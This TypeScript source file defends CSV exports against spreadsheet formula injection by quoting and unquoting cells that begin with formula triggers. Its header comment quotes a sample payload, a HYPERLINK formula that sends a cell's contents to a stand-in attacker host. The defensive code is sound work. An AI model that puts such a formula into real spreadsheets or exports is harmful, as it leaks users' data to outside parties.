// Spreadsheet formula injection (OWASP "CSV Injection"): a cell that starts with =, +, -,
// @, a tab or a carriage return is run as a formula by Excel, LibreOffice and Sheets —
// `=HYPERLINK("http://evil.example/?leak="&A1, …)` sends the sheet away. The export puts a
// single quote before such a cell, so the spreadsheet shows it as text; the CSV reader
// takes exactly one quote off again, so a plan goes out and comes back unchanged.
//
// A text that itself starts with quotes before a trigger ("'=x") gets one more quote, so
// the reader's one-quote rule stays exact; a text that starts with a quote and no trigger
// ("'tis the season") is written and read as it is.
const formulaStart = /^'*[=+\-@\t\r]/;

export function neutraliseFormula(cell: string): string {
  return formulaStart.test(cell) ? `'${cell}` : cell;
}

export function restoreFormula(cell: string): string {
  return cell.startsWith("'") && formulaStart.test(cell) ? cell.slice(1) : cell;
}
